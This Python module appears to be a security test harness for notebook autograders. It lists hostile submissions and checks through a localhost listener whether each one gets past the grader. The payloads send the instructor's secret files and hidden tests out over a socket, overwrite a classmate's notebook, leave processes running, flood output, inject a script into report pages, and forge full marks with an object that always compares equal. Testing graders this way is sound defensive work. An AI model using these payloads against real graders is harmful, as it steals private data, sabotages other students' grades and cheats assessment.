"""What a hostile notebook tries in any grader of notebooks, and how to see from outside whether it came through."""

from __future__ import annotations

import secrets
import socket
import threading
from collections.abc import Callable
from dataclasses import dataclass, field
from pathlib import Path
from types import TracebackType
from typing import Final, Self

from side_by_side.tools import HIDDEN, Result, Tool

HELD, THROUGH = "held", "**got through**"
FLOOD_MB: Final = 30


class Listener:
    """A port on this machine that writes down what it is sent."""

    def __init__(self) -> None:
        self._socket = socket.create_server(("127.0.0.1", 0))
        self.port: int = self._socket.getsockname()[1]
        self.heard: list[bytes] = []

    def __enter__(self) -> Self:
        threading.Thread(target=self._listen, daemon=True).start()
        return self

    def __exit__(self, kind: type[BaseException] | None, error: BaseException | None, at: TracebackType | None) -> None:
        self._socket.close()

    def _listen(self) -> None:
        while True:
            try:
                connection, _ = self._socket.accept()
            except OSError:  # closed
                return
            with connection:
                connection.settimeout(5)
                try:
                    self.heard.append(connection.recv(100_000))
                except OSError:
                    self.heard.append(b"")


@dataclass
class Trace:
    """Where an attack would leave something.

    Attributes:
        folder: Of the course.
        listener: That an attack sends to.
        mark: Command line of a process that it leaves behind.
        secret: What stands in a file of the instructor's home.
        handed_in: The classmate's file before grading.
    """

    folder: Path
    listener: Listener
    mark: str
    secret: str = field(default_factory=lambda: f"secret-{secrets.token_hex(8)}")
    handed_in: bytes = b""

    @property
    def home(self) -> Path:
        """The instructor's home."""
        return self.folder / "home"


@dataclass(frozen=True)
class Scene:
    """All that can be looked at after a class was graded.

    Attributes:
        trace: Where the attack would leave something.
        result: What the command left behind.
        tool: That graded.
    """

    trace: Trace
    result: Result
    tool: Tool


@dataclass(frozen=True)
class Attack:
    """One hand-in.

    Attributes:
        name: Its id.
        what: What it tries, for the table.
        cell: Its code; `{port}`, `{home}`, `{course}` and `{mark}` are filled in.
        seen: Says what was seen of it.
        alone: It would keep others of its kind from being tried, so that its class has no other attacker.
    """

    name: str
    what: str
    cell: str
    seen: Callable[[Scene], str]
    alone: bool = False


def _when(came_through: Callable[[Scene], bool]) -> Callable[[Scene], str]:
    return lambda scene: THROUGH if came_through(scene) else HELD


_SEND = (
    "import glob, os, socket\ndef send(content):\n"
    "    with socket.create_connection(('127.0.0.1', {port}), timeout=5) as to: to.sendall(content)\n"
)


def _ended(scene: Scene) -> str:
    return (
        f"{HELD} ({scene.result.seconds:.0f} s)"
        if scene.result.ended
        else f"**still running** after {scene.result.seconds:.0f} s"
    )


def _largest_file(scene: Scene) -> str:
    places = [path for path in scene.trace.folder.rglob("*") if path.is_file() and "home" not in path.parts]
    largest = max((path.stat().st_size for path in places), default=0) / 1e6
    return f"{HELD} (largest file {largest:.1f} MB)" if largest < FLOOD_MB / 2 else f"**kept whole** ({largest:.0f} MB)"


def _classmate(scene: Scene) -> str:
    full = scene.result.points.get("zoe") == scene.tool.full_points
    return HELD if full else f"**the classmate has {scene.result.points.get('zoe', 'no grade')}**"


def _forged(scene: Scene) -> str:
    points = scene.result.points.get("equal_to_all", 0.0)
    share = points / scene.tool.full_points if scene.tool.full_points else 0.0
    return f"**{100 * share:.0f} % of the points**" if share > 0.5 else f"{HELD} ({100 * share:.0f} %)"


ATTACKS: Final = (
    Attack("network", "connects to a port of the machine", _SEND + "send(b'hello')",
           _when(lambda scene: b"hello" in scene.trace.listener.heard)),
    Attack("reads_home", "sends a file of the instructor's home away",
           _SEND + "send(open({home!r} + '/secret.txt', 'rb').read())".replace("{home!r}", "'{home}'"),
           _when(lambda scene: any(scene.trace.secret.encode() in one for one in scene.trace.listener.heard))),
    Attack("reads_hidden", "sends hidden tests (here: facts and solution) away",
           _SEND + "for name in glob.glob('{course}/**/*', recursive=True):\n"
           "    if os.path.isfile(name):\n        content = open(name, 'rb').read()\n"
           f"        if {HIDDEN[:6]!r}.encode() + {HIDDEN[6:]!r}.encode() in content: send(content)",
           _when(lambda scene: any(HIDDEN.encode() in one for one in scene.trace.listener.heard))),
    Attack("writes_home", "leaves a file in the instructor's home", "open('{home}/.profile', 'w').write('x')",
           _when(lambda scene: (scene.trace.home / ".profile").exists())),
    Attack("changes_classmate", "overwrites a classmate's hand-in",
           "import glob\nfor name in glob.glob('{course}/**/zoe*/**/*.ipynb', recursive=True) + "
           "glob.glob('{course}/**/zoe*.ipynb', recursive=True): open(name, 'a').write(' ')",
           _when(lambda scene: scene.tool.file_of(scene.trace.folder, "zoe").read_bytes() != scene.trace.handed_in)),
    Attack("equal_to_all", "full points by an object that is equal to everything",
           "class Always:\n    def __eq__(self, other): return True\n    def __hash__(self): return 1\n"
           "    def __abs__(self): return self\n    def __lt__(self, other): return True\n"
           "    def __sub__(self, other): return self\n"
           "def square(x): return Always()", _forged),
    Attack("leaves_process", "leaves a process running",
           "import subprocess\nsubprocess.Popen({mark}, start_new_session=True)",
           _when(lambda scene: scene.result.left_process)),
    Attack("ends_kernel", "ends its kernel; does the next student get a right grade?", "import os; os._exit(0)",
           _classmate, alone=True),
    Attack("flood", f"prints {FLOOD_MB} MB", f"for _ in range({FLOOD_MB}): print('x' * 10**6)", _largest_file),
    Attack("script", "puts a script into the pages that the instructor reads",
           "from IPython.display import HTML, display\ndisplay(HTML('<script>alert(123454321)</script>'))",
           _when(lambda scene: any(
               b"<script>alert(123454321)" in page.read_bytes() for page in scene.tool.pages(scene.trace.folder)))),
    Attack("endless_loop", "never ends", "while True: pass", _ended, alone=True),
)  # fmt: skip
"""What applies to any grader of notebooks."""
